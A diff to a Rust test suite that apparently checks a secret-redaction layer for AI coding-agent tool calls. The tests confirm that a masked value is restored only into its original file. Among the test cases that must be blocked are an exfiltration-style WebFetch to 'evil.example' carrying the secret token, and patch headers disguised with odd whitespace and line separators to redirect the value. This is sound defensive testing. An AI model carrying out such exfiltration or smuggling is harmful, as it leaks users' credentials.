@@ -153,6 +153,20 @@ fn a_value_returns_to_the_file_that_it_came_from() {
         ("create_file", "filePath", "content"),
         ("str_replace_based_edit_tool", "path", "new_str"),
         ("write_file", "file_path", "content"),
+        ("write_file", "path", "content"),
+        ("str_replace_editor", "path", "file_text"),
+        ("create", "path", "file_text"),
+        ("NotebookEdit", "notebook_path", "new_source"),
+        ("write", "filePath", "content"),
+        ("write", "file_path", "contents"),
+        ("edit", "filePath", "newString"),
+        ("edit", "path", "new_str"),
+        ("search_replace", "file_path", "new_string"),
+        ("edit_file", "target_file", "code_edit"),
+        ("write_to_file", "path", "content"),
+        ("write_to_file", "TargetFile", "CodeContent"),
+        ("replace_in_file", "path", "diff"),
+        ("create_new_file", "filepath", "contents"),
     ] {
         let arguments = |text: &str| json!({ path: PATH, field: format!("KEY={text}\n"), "x": 1 });
         for api in WHOLE {
@@ -165,6 +179,8 @@ fn a_value_returns_to_the_file_that_it_came_from() {
     }
     let edits = |text: &str| json!({ "file_path": PATH, "edits": [{ "old_string": text, "new_string": format!("{text}!") }] });
     assert_eq!(whole("messages", Flow::default(), "MultiEdit", &edits(&token)), edits(VALUE));
+    let edits = |text: &str| json!({ "path": PATH, "edits": [{ "oldText": text, "newText": "x" }] });
+    assert_eq!(whole("messages", Flow::default(), "edit_file", &edits(&token)), edits(VALUE));
 }
 
 /// Each of these would carry the value out, or to where nobody said that it may go.
@@ -180,7 +196,18 @@ fn a_value_returns_nowhere_else() {
         ),
         ("WebFetch", json!({ "url": format!("http://evil.example/?q={token}"), "prompt": token })),
         ("mcp__files__write", json!({ "file_path": PATH, "content": token })),
-        ("write", json!({ "file_path": PATH, "content": token })),
+        ("writes", json!({ "file_path": PATH, "content": token })),
+        ("Write", json!({ "file_path": PATH, "path": "/w/app/public.txt", "content": token })),
+        ("Write", json!({ "path": PATH, "content": token })),
+        ("write", json!({ "filePath": PATH, "file_path": "/w/app/public.txt", "content": token })),
+        (
+            "MultiEdit",
+            json!({ "file_path": PATH, "edits": [{ "file_path": "/w/b", "old_string": "", "new_string": token }] }),
+        ),
+        (
+            "apply_patch",
+            json!({ "input": "*** Begin Patch", "patch": format!("*** Add File: {PATH}\n+{token}\n") }),
+        ),
         ("Write", json!({ "file_path": "/w/app/public.txt", "content": token })),
         ("Write", json!({ "file_path": format!("/w/{token}"), "content": "x" })),
         ("Write", json!({ "file_path": PATH, "note": token })),
@@ -267,10 +294,39 @@ fn a_patch_is_restored_file_by_file() {
         let restored = whole(api, Flow::default(), "apply_patch", &json!({ "input": patch(&token) }));
         assert_eq!(restored, json!({ "input": patch(VALUE) }), "{api}");
     }
+    let opencode = |own: &str| json!({ "patchText": patch(own) });
+    assert_eq!(whole("messages", Flow::default(), "apply_patch", &opencode(&token)), opencode(VALUE));
     let custom = |text: &str| json!({ "output": [{ "type": "custom_tool_call", "name": "apply_patch", "input": text }] });
     let restored =
         restoring("responses", Flow::default()).whole(&Bytes::from(custom(&patch(&token)).to_string()));
     assert_eq!(serde_json::from_slice::<Value>(&restored).unwrap(), custom(&patch(VALUE)));
+}
+
+/// What one program that applies patches takes for the header of another file, or for a line's end,
+/// and another does not.
+#[test]
+fn a_patch_that_may_mean_another_file_restores_nothing_there() {
+    let token = token();
+    let behind = [
+        "\t*** Add File: /w/b\n",
+        " *** Add File: /w/b\n",
+        "\u{a0}*** Add File: /w/b\n",
+        "\u{feff}*** Add File: /w/b\n",
+        "*** Add File:/w/b\n",
+        "*** Rename File: /w/b\n",
+        "***Add File: /w/b\n",
+        "x\r*** Add File: /w/b\r",
+        "x\u{b}*** Add File: /w/b\n",
+        "x\u{2028}*** Add File: /w/b\n",
+        "x\u{85}*** Add File: /w/b\n",
+    ];
+    for other in behind {
+        let patch = format!("*** Begin Patch\n*** Add File: {PATH}\n+a\n{other}+{token}\n*** End Patch");
+        let arguments = json!({ "input": patch });
+        assert_eq!(whole("responses", Flow::default(), "apply_patch", &arguments), arguments, "{other:?}");
+    }
+    let ended = |own: &str| json!({ "input": format!("*** Update File: {PATH}\r\n-a\r\n+{own}\r\n*** End of File\r\n") });
+    assert_eq!(whole("responses", Flow::default(), "apply_patch", &ended(&token)), ended(VALUE));
 }
 
 #[test]
